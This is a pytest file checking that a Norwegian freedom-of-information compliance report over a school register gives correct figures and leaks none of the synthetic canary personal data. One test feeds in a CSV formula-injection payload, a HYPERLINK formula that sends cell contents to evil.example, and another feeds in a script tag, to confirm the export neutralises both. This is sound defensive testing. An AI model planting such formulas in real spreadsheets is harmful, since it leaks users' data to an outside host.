"""The compliance report: the right figures, and no personal data.

A fixed synthetic set of cases goes straight into a real DuckDB file, with canary values
wherever personal data lives: pupils' and guardians' names, e-mails, phones and addresses in
the register, the requester on the case, the values in the case's items. The Prefect flow
`compliance_report` runs once for real; its CSV and its PDF (read back with pypdf) must show
the figures the test computes on its own from the table below (working days counted by hand
on the almanac), and none of the canaries.
"""

from __future__ import annotations

import csv
import io
import json
import statistics
from collections import Counter, defaultdict
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import pytest

from conftest import FIXED_NOW, Register, innsyn, insert_case, pdf_text, squeeze
from innsyn import db as innsyn_db
from innsyn.compliance_report import (
    ReportConfig, compliance_report, previous_week, read_figures, report_pdf, report_period,
)

NO_PREFECT = "http://127.0.0.1:9/api"  # commands that fail on bad input never reach Prefect
PERIOD = (date(2026, 11, 2), date(2026, 11, 15))  # two weeks; the clock says Tuesday 24 November
AS_OF = date(2026, 11, 24)
TARGET = 3
BASIS = "offentleglova § 13 første ledd, jf. forvaltningsloven § 13 første ledd nr. 1"

CANARY = {
    "pupil": "Kanarielev", "guardian": "Kanariforesatt", "email": "kanari.post@example.no",
    "phone": "987 65 432", "address": "Kanarigata 13", "requester": "Kanari Journalist",
    "requester email": "kanari@avis.example", "organisation": "Kanariavisa",
}


@dataclass(frozen=True)
class Case:
    case_id: str
    kind: str
    received_at: str
    released_at: str | None
    outcome: str | None
    working_days: int          # counted by hand: to the decision, or to 24 November while open


CASES = [
    Case("2026-2001", "journalist", "2026-11-02T09:00:00+01:00", "2026-11-02T15:00:00+01:00", "innvilget", 0),
    Case("2026-2002", "private", "2026-11-02T10:00:00+01:00", "2026-11-04T10:00:00+01:00", "delvis_innvilget", 2),
    Case("2026-2003", "commercial", "2026-11-05T10:00:00+01:00", "2026-11-10T10:00:00+01:00", "innvilget", 3),
    Case("2026-2004", "anonymous", "2026-11-06T16:30:00+01:00", "2026-11-13T10:00:00+01:00", "avslatt", 5),
    # received in the period, answered after it: counts as received, not as decided
    Case("2026-2005", "journalist", "2026-11-09T10:00:00+01:00", "2026-11-18T10:00:00+01:00", "innvilget", 7),
    # received before the period, answered in it, two days after the limit
    Case("2026-2006", "organisation", "2026-10-27T10:00:00+01:00", "2026-11-05T10:00:00+01:00", "delvis_innvilget", 7),
    Case("2026-2007", "journalist", "2026-11-12T10:00:00+01:00", None, None, 8),
    # received after the period: in no figure of this report
    Case("2026-2008", "private", "2026-11-23T10:00:00+01:00", None, None, 1),
    # received on a Sunday through eInnsyn, still open
    Case("2026-2009", "commercial", "2026-11-15T20:00:00+01:00", None, None, 7),
]
LIMITS = {"2026-2007": date(2026, 11, 19), "2026-2009": date(2026, 11, 20)}  # the fifth working day


@dataclass(frozen=True)
class Item:
    case_id: str
    class_id: str
    student: str
    guardian: str | None
    field: str
    decision: str
    rule: str | None
    no_trace: bool = False


ITEMS = [
    Item("2026-2001", "S001-5B", "P1", None, "pupil_name", "release", None),
    Item("2026-2002", "S001-5B", "P1", "G1", "phone", "release", "hemmelig_telefonnummer"),
    Item("2026-2002", "S001-5B", "P4", None, "pupil_name", "withhold", "fortrolig_adresse"),
    Item("2026-2002", "S001-5B", "P4", "G4", "email", "withhold", "fortrolig_adresse"),
    Item("2026-2003", "S001-5B", "P4", "G4", "email", "withhold", "fortrolig_adresse"),
    Item("2026-2004", "S001-6A", "P5", None, "pupil_name", "withhold", "spesialundervisning"),
    Item("2026-2004", "S001-6A", "P5", "G5", "guardian_name", "withhold", "spesialundervisning"),
    Item("2026-2004", "S001-6A", "P5", "G5", "address", "withhold", "spesialundervisning"),
    Item("2026-2005", "S001-5B", "P2", "G2", "address", "withhold", "institusjonsadresse"),
    Item("2026-2007", "S001-5B", "P3", None, "pupil_name", "withhold", "strengt_fortrolig_adresse", True),
    Item("2026-2007", "S001-5B", "P3", "G3", "email", "withhold", "strengt_fortrolig_adresse", True),
    # a case received before the period: its withholdings belong to an earlier report
    Item("2026-2006", "S002-1A", "P7", "G7", "address", "withhold", "fortrolig_adresse"),
]

# pupil -> (class, share_names of each guardian); coverage is the share with any tick
PUPILS = {
    "P1": ("S001-5B", [True]), "P2": ("S001-5B", [True]), "P3": ("S001-5B", [False, True]),
    "P4": ("S001-5B", [False]), "P5": ("S001-6A", [False]), "P6": ("S001-6A", []),
    "P7": ("S002-1A", [False, True]),
}
CLASS_NAMES = {"S001-5B": ("Sagene skole", "5B"), "S001-6A": ("Sagene skole", "6A"), "S002-1A": ("Tøyen skole", "1A")}


# ----------------------------------------------------------------------------- the database


def build_database(path: Path) -> None:
    con = innsyn_db.connect(path)
    innsyn_db.init_schema(con)
    register = Register(con)
    register.school("S001", "Sagene skole")
    register.school("S002", "Tøyen skole")
    register.klass("5B", school_id="S001", grade=5)
    register.klass("6A", school_id="S001", grade=6)
    register.klass("1A", school_id="S002", grade=1)
    students = {}
    for pupil, (class_id, ticks) in PUPILS.items():
        guardians = [dict(first=f"{CANARY['guardian']}{pupil}{n}", last=CANARY["guardian"], email=CANARY["email"],
                          phone=CANARY["phone"], street=CANARY["address"], names=tick)
                     for n, tick in enumerate(ticks)]
        students[pupil] = register.pupil(f"{CANARY['pupil']}{pupil}", CANARY["pupil"], class_id=class_id,
                                         guardians=guardians)
    guardian_ids = {f"G{pupil[1:]}": con.execute(
        "SELECT min(guardian_id) FROM guardians WHERE student_id = ?", [student_id]).fetchone()[0]
        for pupil, student_id in students.items()}
    for case in CASES:
        insert_case(con, case.case_id, case.received_at, released_at=case.released_at, kind=case.kind,
                    outcome=case.outcome, requester=CANARY["requester"], email=CANARY["requester email"],
                    organisation=CANARY["organisation"])
        for class_id, (school_name, class_name) in CLASS_NAMES.items():
            con.execute("INSERT INTO case_classes VALUES (?, ?, ?, ?, ?, 5)",
                        [case.case_id, class_id, class_id.split("-")[0], school_name, class_name])
    for n, item in enumerate(ITEMS):
        consent = ("consented" if item.rule is None else
                   "consent_lifted" if item.decision == "release" else "consent_not_sufficient")
        con.execute(
            """INSERT INTO case_items (case_id, item_id, class_id, student_id, guardian_id, field, value, sort_key,
                   decision, rule, legal_basis, consent_state, no_trace, decided_by, decided_at)
               VALUES (?, ?, ?, ?, ?, ?, ?, 'x', ?, ?, ?, ?, ?, 'policy', ?)""",
            [item.case_id, f"item-{n}", item.class_id, students[item.student],
             guardian_ids[item.guardian] if item.guardian else None, item.field,
             f"{CANARY['address']} {CANARY['email']} {CANARY['pupil']}", item.decision, item.rule,
             BASIS if item.rule else None, consent, item.no_trace, FIXED_NOW],
        )
    con.close()


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("compliance")
    build_database(folder / "innsyn.duckdb")
    return folder


@pytest.fixture(scope="module")
def report(workdir, prefect_server):
    """The Prefect flow, run once for real over the fixed set of cases."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("INNSYN_NOW", FIXED_NOW)
        result = compliance_report(*PERIOD, ReportConfig(db=str(workdir / "innsyn.duckdb"), out=str(workdir / "out"),
                                                         target_days=TARGET))
    return result


def csv_figures(path: Path) -> dict[tuple[str, str, str], str]:
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    return {(row["section"], row["key"], row["measure"]): row["value"] for row in rows}


# ----------------------------------------------------------------------------- what we expect


def in_period(moment: str | None) -> bool:
    return moment is not None and PERIOD[0] <= datetime.fromisoformat(moment).date() <= PERIOD[1]


def expected_decision_time() -> dict:
    decided = [case for case in CASES if in_period(case.released_at)]
    days = sorted(case.working_days for case in decided)
    still_open = [case for case in CASES
                  if case.released_at is None and datetime.fromisoformat(case.received_at).date() <= PERIOD[1]]
    return {
        "decided": len(decided),
        "median_working_days": statistics.median(days),
        "p90_working_days": statistics.quantiles(days, n=10, method="inclusive")[8],
        "within_target": sum(1 for d in days if d <= TARGET),
        "share_within_target": sum(1 for d in days if d <= TARGET) / len(days),
        "decided_past_limit": sum(1 for d in days if d > 5),
        "open_cases": len(still_open),
        "open_past_limit": sum(1 for case in still_open if AS_OF > LIMITS[case.case_id]),
    }


def expected_withheld() -> dict[str, tuple[int, int]]:
    received = {case.case_id for case in CASES if in_period(case.received_at)}
    counted = [item for item in ITEMS if item.decision == "withhold" and item.case_id in received]
    items = Counter(item.rule for item in counted)
    cases = {rule: len({item.case_id for item in counted if item.rule == rule}) for rule in items}
    return {rule: (items[rule], cases[rule]) for rule in items}


def expected_coverage() -> dict[str, tuple[int, int]]:
    by_class = defaultdict(lambda: [0, 0])
    for class_id, ticks in PUPILS.values():
        by_class[class_id][0] += 1
        by_class[class_id][1] += any(ticks)
    return {class_id: tuple(counts) for class_id, counts in by_class.items()}


# ----------------------------------------------------------------------------- the tests


def test_the_flow_writes_the_pdf_and_the_csv_for_the_period(report, workdir):
    assert report.period == {"from": "2026-11-02", "to": "2026-11-15"}
    assert Path(report.report_pdf) == workdir / "out" / "reports" / "compliance-2026-11-02-2026-11-15.pdf"
    assert Path(report.report_csv).with_suffix(".pdf") == Path(report.report_pdf)
    assert Path(report.report_pdf).read_bytes().startswith(b"%PDF")
    assert (report.cases_received, report.cases_decided, report.open_cases) == (7, 5, 2)


def test_the_csv_figures_match_an_independent_count(report):
    figures = csv_figures(Path(report.report_csv))
    received = Counter(case.kind for case in CASES if in_period(case.received_at))
    decided = Counter(case.kind for case in CASES if in_period(case.released_at))
    for kind in ("journalist", "private", "commercial", "organisation", "anonymous"):
        assert figures[("requests", kind, "received")] == str(received[kind]), kind
        assert figures[("requests", kind, "decided")] == str(decided[kind]), kind
    outcomes = Counter(case.outcome for case in CASES if in_period(case.released_at))
    for outcome in ("innvilget", "delvis_innvilget", "avslatt"):
        assert figures[("outcomes", outcome, "decided")] == str(outcomes[outcome])

    for measure, value in expected_decision_time().items():
        assert float(figures[("decision_time", "all", measure)]) == pytest.approx(value), measure
    for case in CASES:
        listed = ("case", case.case_id, "working_days_used") in figures
        assert listed == (in_period(case.released_at) or
                          (case.released_at is None and case.case_id != "2026-2008")), case.case_id
        if listed:
            assert figures[("case", case.case_id, "working_days_used")] == str(case.working_days), case.case_id

    withheld = expected_withheld()
    assert {key for (section, key, _) in figures if section == "withheld"} == set(withheld)
    for rule, (items, cases) in withheld.items():
        assert figures[("withheld", rule, "items")] == str(items)
        assert figures[("withheld", rule, "cases")] == str(cases)
        assert figures[("withheld", rule, "legal_basis")] == BASIS

    for class_id, (pupils, visible) in expected_coverage().items():
        assert figures[("coverage_class", class_id, "pupils")] == str(pupils)
        assert figures[("coverage_class", class_id, "visible")] == str(visible)
        assert float(figures[("coverage_class", class_id, "share")]) == pytest.approx(visible / pupils, abs=1e-4)
    assert float(figures[("coverage_school", "S001", "share")]) == pytest.approx(3 / 6, abs=1e-4)


def test_coverage_is_listed_lowest_first_and_conflicts_by_id(workdir):
    figures = read_figures(workdir / "innsyn.duckdb", *PERIOD, as_of=AS_OF, target_days=TARGET)
    assert [row.class_id for row in figures.coverage_by_class] == ["S001-6A", "S001-5B", "S002-1A"]
    assert [row.school_id for row in figures.coverage_by_school] == ["S001", "S002"]
    conflicts = {(c.class_id, c.guardian_id is None, c.rule): (c.fields, c.case_ids) for c in figures.conflicts}
    assert conflicts == {
        ("S001-5B", True, "fortrolig_adresse"): (["pupil_name"], ["2026-2002"]),
        ("S001-5B", False, "fortrolig_adresse"): (["email"], ["2026-2002", "2026-2003"]),
        ("S001-6A", True, "spesialundervisning"): (["pupil_name"], ["2026-2004"]),
        ("S001-6A", False, "spesialundervisning"): (["address", "guardian_name"], ["2026-2004"]),
        ("S001-5B", False, "institusjonsadresse"): (["address"], ["2026-2005"]),
    }
    # the strengt fortrolig pupil is counted, never listed by id
    assert figures.no_trace_conflict_items == 2
    assert figures.decision_time.open_cases == 2
    assert [c.case_id for c in figures.open_cases] == ["2026-2007", "2026-2009"]


def test_the_pdf_shows_the_figures_and_the_charts(report):
    text = squeeze(pdf_text(Path(report.report_pdf)))
    expected = expected_decision_time()
    assert "median,arbeidsdagertilsvar3" in text
    assert "90-persentil,arbeidsdagertilsvar" + f"{expected['p90_working_days']:.1f}".replace(".", ",") in text
    assert "andelbesvartinnenmålet(3arbeidsdager)60%" in text
    assert "besvartetterfristenpå5arbeidsdager1" in text
    assert "vimottok7innsynskravogbesvarte5saker" in text
    for case_id in ("2026-2007", "2026-2009"):
        assert case_id in text
    assert "2026-2008" not in text  # received after the period
    assert "6a" in text and "tøyenskole" in text and "0%" in text
    assert "målet" in text and "frist5" in text  # the chart's reference lines are text, not pixels
    assert "«fortroligadresse(kode7)»" in text or "«spesialundervisning»" in text


def test_the_report_holds_no_personal_data(report):
    pdf = squeeze(pdf_text(Path(report.report_pdf)))
    table = squeeze(Path(report.report_csv).read_text(encoding="utf-8"))
    for where, text in (("pdf", pdf), ("csv", table)):
        assert "kanari" not in text, where
        for canary in CANARY.values():
            assert squeeze(canary) not in text, (where, canary)
        assert "@" not in text, where
        assert "98765432" not in text.replace(" ", ""), where


def test_the_same_data_gives_the_same_report(report, workdir):
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("INNSYN_NOW", FIXED_NOW)
        again = report_pdf(read_figures(workdir / "innsyn.duckdb", *PERIOD, as_of=AS_OF, target_days=TARGET))
    assert again == Path(report.report_pdf).read_bytes()


def test_without_a_period_the_report_covers_the_previous_week():
    assert previous_week(date(2026, 11, 30)) == (date(2026, 11, 23), date(2026, 11, 29))   # a Monday run
    assert previous_week(date(2026, 11, 24)) == (date(2026, 11, 16), date(2026, 11, 22))
    assert report_period(None, None, date(2026, 11, 30)) == (date(2026, 11, 23), date(2026, 11, 29))
    with pytest.raises(ValueError, match="after it ends"):
        report_period(date(2026, 11, 30), date(2026, 11, 1), date(2026, 11, 30))


@pytest.mark.parametrize("args, message", [
    (["--from", "2026-11-31", "--to", "2026-12-06"], "--from"),
    (["--from", "2026-12-06", "--to", "2026-11-30"], "after --to"),
    (["--from", "2026-11-30"], "--to"),
    (["--from", "2026-11-30", "--to", "2026-12-06", "--target-days", "8"], "--target-days"),
])
def test_bad_dates_exit_2_with_one_line_and_write_nothing(workdir, tmp_path, args, message):
    (tmp_path / "innsyn.duckdb").write_bytes((workdir / "innsyn.duckdb").read_bytes())
    result = innsyn(tmp_path, NO_PREFECT, "report", "compliance", *args)
    assert result.returncode == 2, result.stderr
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert result.stdout == "" and not (tmp_path / "out").exists()


def test_innsyn_report_compliance_prints_where_the_report_is(workdir, tmp_path, prefect_api_url):
    (tmp_path / "innsyn.duckdb").write_bytes((workdir / "innsyn.duckdb").read_bytes())
    result = innsyn(tmp_path, prefect_api_url, "report", "compliance", "--from", "2026-11-09", "--to", "2026-11-15")
    assert result.returncode == 0, result.stderr
    printed = json.loads(result.stdout)
    assert printed["period"] == {"from": "2026-11-09", "to": "2026-11-15"}
    assert (tmp_path / printed["report_pdf"]).is_file() and (tmp_path / printed["report_csv"]).is_file()
    assert "kanari" not in result.stdout.casefold() + result.stderr.casefold()


def test_the_chart_draws_a_bar_per_case_and_a_dot_per_case_when_there_are_many():
    from datetime import timedelta

    from innsyn.charts import MAX_BARS, CaseBar, horizontal_bars, working_days_per_case

    few = [CaseBar(f"2026-{n:04d}", date(2026, 11, 2) + timedelta(days=n), n % 7, "within_target", n == 3)
           for n in range(5)]
    many = [CaseBar(f"2026-{n:04d}", date(2026, 1, 1) + timedelta(days=n), n % 9, "past_limit", False)
            for n in range(MAX_BARS + 1)]
    bars = working_days_per_case(few, target=3, limit=5)
    dots = working_days_per_case(many, target=3, limit=5)
    assert bars.count("<rect x=") - 4 == 5 and "url(#open)" in bars and "2026-0004" in bars   # 4 legend keys
    assert dots.count("<circle") == MAX_BARS + 1 and "01.01.26" in dots
    assert "Ingen saker" in working_days_per_case([], target=3, limit=5)
    assert "&lt;script&gt;" in horizontal_bars([("<script>", 1)])  # every label is escaped


def test_a_name_that_begins_like_a_formula_is_written_as_text_in_the_csv(tmp_path):
    """Class and school names come from the school system: a spreadsheet must not run them."""
    from innsyn.compliance_report import figures_csv

    con = innsyn_db.connect(tmp_path / "innsyn.duckdb")
    innsyn_db.init_schema(con)
    register = Register(con)
    register.school("@S9", '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")')
    class_id = register.klass("+5B", school_id="@S9")
    register.pupil("Ola", "Nordmann", class_id=class_id)
    register.klass("-6A", school_id="@S9")
    register.pupil("Kari", "Nordmann", class_id="@S9--6A")
    con.close()
    figures = read_figures(tmp_path / "innsyn.duckdb", *PERIOD, as_of=AS_OF, target_days=TARGET)

    rows = list(csv.reader(io.StringIO(figures_csv(figures).decode("utf-8"), newline="")))

    assert rows[0] == ["section", "key", "measure", "value"]
    cells = {(section, key, measure): value for section, key, measure, value in rows[1:]}
    assert cells[("coverage_school", "'@S9", "school_name")] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
    assert cells[("coverage_class", "'@S9-+5B", "class_name")] == "'+5B"
    assert cells[("coverage_class", "'@S9--6A", "class_name")] == "'-6A"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_case_registered_with_an_absurd_day_of_receipt_fails_no_report(workdir, tmp_path, prefect_api_url):
    """Year 1 and year 9999 are refused at the door today; a row an older version let in is
    listed as open with no deadlines, and the report is written for everything else."""
    (tmp_path / "innsyn.duckdb").write_bytes((workdir / "innsyn.duckdb").read_bytes())
    with innsyn_db.open_db(tmp_path / "innsyn.duckdb") as con:
        insert_case(con, "OLD-1", "0001-06-01T12:00:00+01:00")
        insert_case(con, "OLD-2", "0001-01-01T00:00:00+02:00")  # 1 BC in Oslo time
        insert_case(con, "OLD-3", "9999-12-31T12:00:00+00:00")

    result = innsyn(tmp_path, prefect_api_url, "report", "compliance", "--from", "2026-11-02", "--to", "2026-11-15")

    assert result.returncode == 0, result.stderr
    printed = json.loads(result.stdout)
    assert (printed["cases_received"], printed["cases_decided"], printed["open_cases"]) == (7, 5, 3)
    figures = csv_figures(tmp_path / printed["report_csv"])
    assert figures[("case", "OLD-1", "deadline_state")] == "unknown"
    assert figures[("case", "OLD-1", "working_days_used")] == figures[("case", "OLD-1", "target_date")] == ""
    assert figures[("decision_time", "all", "open_past_target")] == "3"  # the 2 late ones, and OLD-1
    assert "ugyldigmottaksdato" in squeeze(pdf_text(tmp_path / printed["report_pdf"]))
